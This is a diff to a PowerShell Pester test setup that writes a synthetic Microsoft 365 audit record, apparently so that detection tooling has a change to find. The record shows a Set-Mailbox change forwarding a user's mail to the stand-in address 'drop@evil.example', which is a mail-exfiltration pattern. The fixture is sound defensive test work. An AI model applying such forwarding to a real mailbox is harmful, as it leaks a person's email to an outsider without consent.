@@ -20,6 +20,14 @@ BeforeAll {
     # Somebody who did on that Sunday what the example asks for, in place of a name that is in no log.
     $somebody = (Import-M365AuditLog (Join-Path $place 'audit') -Operation MailItemsAccessed -Start 2026-09-20 -End 2026-09-20 | Select-Object -First 1).UserId
 
+    # A change to be found: one more record of the same tenant.
+    $first = ConvertFrom-Json -InputObject (Get-ChildItem -LiteralPath (Join-Path $place 'audit') -Filter '*.jsonl' | Select-Object -First 1 | Get-Content -TotalCount 1)
+    ConvertTo-Json -Compress -Depth 5 -InputObject ([ordered] @{
+            Id = '7d3f0f1e-5a0c-4a53-9d59-3b4f7c1e9a10'; CreationTime = '2026-09-20T10:00:00'; Operation = 'Set-Mailbox'; RecordType = 1; UserType = 2; ResultStatus = 'True'; OrganizationId = $first.OrganizationId
+            UserId = $somebody; ClientIP = '198.51.100.7:1234'; ExternalAccess = $false; Workload = 'Exchange'
+            Parameters = @(@{ Name = 'Identity'; Value = $somebody }, @{ Name = 'ForwardingSmtpAddress'; Value = 'smtp:drop@evil.example' })
+        }) | Set-Content -LiteralPath (Join-Path $place 'audit/changes.jsonl')
+
     # Other people's cmdlets that examples pipe from, giving what theirs give.
     function Search-UnifiedAuditLog {
         param([string[]] $Operations, [datetime] $StartDate, [datetime] $EndDate, [int] $ResultSize = 100, [string] $SessionId, [string] $SessionCommand)
